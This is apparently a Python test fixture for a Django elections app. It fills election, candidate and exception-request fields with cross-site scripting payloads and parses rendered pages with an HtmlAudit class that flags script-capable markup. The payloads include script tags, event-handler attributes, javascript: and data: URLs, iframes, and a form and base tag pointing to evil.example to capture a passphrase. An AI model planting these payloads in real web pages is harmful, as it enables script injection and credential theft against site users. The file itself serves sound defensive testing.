"""Elections whose every text field (from the meta repository and from users) carries script injection attempts.

The meta repository takes pull requests from candidates, and exception requests come from anyone who can sign
in, so all of it is untrusted. ``HtmlAudit`` finds what would run in a browser: inline or foreign scripts, event
handler attributes, script URLs, frames and objects.
"""

from datetime import timedelta
from html.parser import HTMLParser

from django.utils import timezone

from elections.ballot_box.box import ballot_box_open
from elections.models import Election, ExceptionRequest
from elections.voting import services
from tests.browser.builders import build_election, user

RUNNING = "hostile---running"
COMPLETED = "hostile---completed"


def payload(where):
    """A name-like string that breaks out of attributes and opens a script, tagged with where it was put."""
    return f"\"'><img src=x onerror=alert('{where}')><script>alert('{where}')</script>"


def markdown_payload(where):
    return "\n\n".join([
        f"## {where}",
        f"<script>alert('{where}-script')</script>",
        f"<img src=x onerror=\"alert('{where}-img')\">",
        f"<svg onload=\"alert('{where}-svg')\"></svg>",
        f"[click me](javascript:alert('{where}-link'))",
        f"<a href=\" JaVaScRiPt:alert('{where}-a')\">and me</a>",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"<iframe src=\"javascript:alert('{where}')\">",
        f"<object data=\"javascript:alert('{where}')\"></object><embed src=\"x.swf\"><base href=\"https://evil.example/\">",
        f"<form action=\"https://evil.example/\"><input name=passphrase autofocus onfocus=\"alert('{where}-input')\">"
        "</form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><style>body{display:none}</style>",
        f"<div style=\"background:url(javascript:alert('{where}-css'))\">styled</div>",
    ])


CANDIDATES = (("amara", payload("candidate-name")), ("bjorn", "Björn Lindqvist"))


def build_hostile_elections():
    """A running and a completed election full of injection attempts; alice voted in the completed one, mallory
    filed an exception request in each, and olivia officers both."""
    fields = {
        "name": payload("election-name"),
        "organization": payload("organization"),
        "eligibility": payload("eligibility"),
        "exception_description": payload("exception-description"),
        "description": markdown_payload("description"),
        "results": markdown_payload("results"),
        "show_candidate_fields": ["employer", payload("field-name")],
    }
    bios = {"amara": markdown_payload("bio"), "bjorn": ""}
    running = build_election(RUNNING, candidates=CANDIDATES, bios=bios, voters=("alice",), **fields)
    completed = build_election(COMPLETED, candidates=CANDIDATES, bios=bios, voters=("alice",), **fields)
    for election in (running, completed):
        election.candidates.filter(candidate_id="amara").update(info={"employer": payload("info")})
        ExceptionRequest.objects.create(
            election=election, requester=user("mallory"), name=payload("request-name"), email="m@example.org",
            chat_handle=payload("chat"), contributions=payload("contributions"), comments=payload("comments"),
            review_comment=payload("review-comment"), status=ExceptionRequest.DENIED, reviewed_by="olivia",
        )
    services.ballot_cast(election=completed, voter=user("alice"), ranks={"amara": 1, "bjorn": 2},
                         passphrase="alice's long passphrase")
    now = timezone.now()
    Election.objects.filter(pk=completed.pk).update(start_datetime=now - timedelta(days=9),
                                                     end_datetime=now - timedelta(minutes=1))
    completed.refresh_from_db()
    ballot_box_open(election=completed, actor="olivia")
    return running, completed


SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}


class HtmlAudit(HTMLParser):
    """What in a page could run script: collected in ``problems``; the page's text in ``text``."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.text = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            compact = "".join(ch for ch in value if ch > " ").lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and compact.startswith(SCRIPT_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and ("javascript:" in compact or "expression(" in compact):
                self.problems.append(f"<{tag} style={value!r}>")
            if tag == "meta" and name == "http-equiv" and compact == "refresh":
                self.problems.append("<meta http-equiv=refresh>")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/") or src.startswith("//"):
                self.problems.append(f"<script src={src!r}> (inline or foreign)")
            self._in_script = True
        if tag == "form":
            action = dict(attrs).get("action") or ""
            if action.startswith(("http:", "https:", "//")) and "github.com" not in action:
                self.problems.append(f"<form action={action!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data.strip()[:80]!r}")
        self.text.append(data)


def audit(html):
    parser = HtmlAudit()
    parser.feed(html)
    parser.close()
    return parser.problems, "".join(parser.text)
